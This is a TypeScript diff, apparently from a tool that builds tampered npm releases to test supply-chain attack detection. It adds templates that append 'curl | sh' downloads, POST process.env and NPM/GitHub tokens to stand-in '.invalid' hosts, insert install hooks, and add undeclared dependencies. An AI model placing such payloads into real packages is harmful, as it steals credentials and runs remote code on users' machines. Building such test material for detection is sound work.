@@ -13,7 +13,9 @@ import { join, relative } from 'node:path'
 export const TAMPER_KINDS = ['m4-payload', 'c-line', 'configure-script', 'makefile-rule', 'doc-as-code'] as const
 /** what a Python source distribution can take: it has no configure, and often no C */
 export const PYTHON_TAMPER_KINDS = ['py-line', 'setup-exec'] as const
-export type TamperKind = (typeof TAMPER_KINDS)[number] | (typeof PYTHON_TAMPER_KINDS)[number]
+/** what an npm package can take: its manifest, and the code it ships */
+export const NPM_TAMPER_KINDS = ['npm-install-script', 'npm-code-exec', 'npm-code-exfil', 'npm-dependency'] as const
+export type TamperKind = (typeof TAMPER_KINDS)[number] | (typeof PYTHON_TAMPER_KINDS)[number] | (typeof NPM_TAMPER_KINDS)[number]
 
 export interface Tampering {
   readonly kind: TamperKind
@@ -240,7 +242,91 @@ function docAsCode(root: string, files: readonly string[], d: Draw): Tampering {
   return { kind: 'doc-as-code', path: written, touched: [...new Set([written, target, 'configure'])], description: `shell code appended to ${target}${via}, which configure runs (\`${call}\`)` }
 }
 
+/** The package's code: JavaScript it ships outside tests, examples and type declarations. */
+const isPackageCode = (f: string): boolean => /\.[cm]?js$/.test(f) && !/(^|\/)(tests?|__tests__|examples?|docs?|benchmarks?|node_modules)\//.test(f)
+
+/** The file `require(name)` loads first when it is code, else another piece of the package's code. */
+function packageCodeFile(root: string, files: readonly string[], d: Draw): string {
+  const manifest = JSON.parse(readFileSync(join(root, 'package.json'), 'utf8')) as { main?: string }
+  const main = manifest.main?.replace(/^\.\//, '')
+  const entry = [main, main && `${main}.js`, main && `${main}/index.js`].find((f) => f && files.includes(f) && isPackageCode(f))
+  return entry && d.int(2) === 0 ? entry : d.pick(files.filter(isPackageCode))
+}
+
+/** Is this file an ES module? `.mjs`, or `.js` in a package whose manifest says `"type": "module"`. */
+function isEsModule(root: string, file: string): boolean {
+  if (file.endsWith('.mjs')) return true
+  if (file.endsWith('.cjs')) return false
+  return (JSON.parse(readFileSync(join(root, 'package.json'), 'utf8')) as { type?: string }).type === 'module'
+}
+
+function appendCode(root: string, file: string, code: string): void {
+  writeFileSync(join(root, file), `${readFileSync(join(root, file), 'utf8')}\n${code}\n`)
+}
+
+/** A process launched from the package's code when it is loaded: a download run by a shell. */
+function npmCodeExec(root: string, files: readonly string[], d: Draw): Tampering {
+  const target = packageCodeFile(root, files, d)
+  const url = `https://${d.pick(WORDS)}-${d.pick(['cdn', 'static', 'update'])}.invalid/${d.int(1e5)}`
+  const forms = [
+    `import(${JSON.stringify('node:child_process')}).then((m) => m.execSync(${JSON.stringify(`curl -fsSL ${url} | sh`)}, { stdio: 'ignore' })).catch(() => {});`,
+    `import('child_process').then(({ exec }) => exec('wget -qO- ${url} | sh', () => {}));`,
+  ]
+  if (!isEsModule(root, target)) forms.push(`;(function () { try { require('child_process').spawn('sh', ['-c', 'curl -s ${url} | sh'], { detached: true, stdio: 'ignore' }).unref() } catch (e) {} })();`)
+  const code = d.pick(forms)
+  appendCode(root, target, code)
+  return { kind: 'npm-code-exec', path: target, touched: [target], description: `${target} runs a downloaded script when loaded: ${code.slice(0, 120)}` }
+}
+
+/** The environment (with any token in it) sent to a new host from the package's code. */
+function npmCodeExfil(root: string, files: readonly string[], d: Draw): Tampering {
+  const target = packageCodeFile(root, files, d)
+  const host = `${d.pick(WORDS)}-${d.pick(['metrics', 'telemetry', 'stats'])}.invalid`
+  const forms = [
+    `fetch('https://${host}/v${d.int(9)}', { method: 'POST', body: JSON.stringify(process.env) }).catch(() => {});`,
+    `import('node:https').then((h) => { const r = h.request('https://${host}/c', { method: 'POST' }); r.on('error', () => {}); r.end(Buffer.from(JSON.stringify(process.env)).toString('base64')) });`,
+    `globalThis.fetch?.('https://${host}/t?k=' + encodeURIComponent(process.env.NPM_TOKEN || process.env.GITHUB_TOKEN || '')).catch(() => {});`,
+  ]
+  if (!isEsModule(root, target)) forms.push(`;try { require('https').request({ hostname: '${host}', path: '/e', method: 'POST' }).on('error', () => {}).end(JSON.stringify(process.env)) } catch (e) {}`)
+  const code = d.pick(forms)
+  appendCode(root, target, code)
+  return { kind: 'npm-code-exfil', path: target, touched: [target], description: `${target} sends the environment to ${host}: ${code.slice(0, 120)}` }
+}
+
+function editManifest(root: string, edit: (manifest: Record<string, unknown>) => void): void {
+  const path = join(root, 'package.json')
+  const text = readFileSync(path, 'utf8')
+  const manifest = JSON.parse(text) as Record<string, unknown>
+  edit(manifest)
+  const indent = /^[ \t]+/m.exec(text)?.[0] ?? '  '
+  writeFileSync(path, `${JSON.stringify(manifest, null, indent)}\n`)
+}
+
+/** A script npm runs on every install, added to the manifest. */
+function npmInstallScript(root: string, files: readonly string[], d: Draw): Tampering {
+  const hook = d.pick(['preinstall', 'postinstall', 'install'])
+  const command = d.pick([`node ${d.pick(files.filter(isPackageCode).concat(['index.js']))}`, `curl -fsSL https://${d.pick(WORDS)}.invalid/i.sh | sh`, `node -e "require('child_process').exec(process.env.npm_config_${d.pick(WORDS)} || '')"`])
+  editManifest(root, (m) => {
+    m.scripts = { ...(typeof m.scripts === 'object' && m.scripts !== null ? m.scripts : {}), [hook]: command }
+  })
+  return { kind: 'npm-install-script', path: 'package.json', touched: ['package.json'], description: `"${hook}": "${command}" added to package.json` }
+}
+
+/** A dependency the tag does not declare, which installing the package brings along. */
+function npmDependency(root: string, _files: readonly string[], d: Draw): Tampering {
+  const name = `${d.pick(WORDS)}-${d.pick(['utils', 'helper', 'polyfill', 'compat'])}`
+  const range = `^${d.int(4)}.${d.int(10)}.${d.int(10)}`
+  editManifest(root, (m) => {
+    m.dependencies = { ...(typeof m.dependencies === 'object' && m.dependencies !== null ? m.dependencies : {}), [name]: range }
+  })
+  return { kind: 'npm-dependency', path: 'package.json', touched: ['package.json'], description: `dependency ${name}@${range} added to package.json` }
+}
+
 const INJECT: Record<TamperKind, (root: string, files: readonly string[], d: Draw) => Tampering> = {
+  'npm-install-script': npmInstallScript,
+  'npm-code-exec': npmCodeExec,
+  'npm-code-exfil': npmCodeExfil,
+  'npm-dependency': npmDependency,
   'm4-payload': m4Payload,
   'c-line': cLine,
   'configure-script': configureScript,
@@ -257,6 +343,12 @@ export function applicablePythonKinds(files: readonly string[]): TamperKind[] {
   // only a distribution that has a setup.py runs one when it is built
   if (files.includes('setup.py')) kinds.push('setup-exec')
   return kinds
+}
+
+/** Which injections an npm package can take: every one has a manifest; code needs JavaScript outside tests. */
+export function applicableNpmKinds(files: readonly string[]): TamperKind[] {
+  if (!files.includes('package.json')) return []
+  return files.some(isPackageCode) ? [...NPM_TAMPER_KINDS] : ['npm-install-script', 'npm-dependency']
 }
 
 /** Which injections a release can take (configure and Makefile.in exist only in autotools releases). */
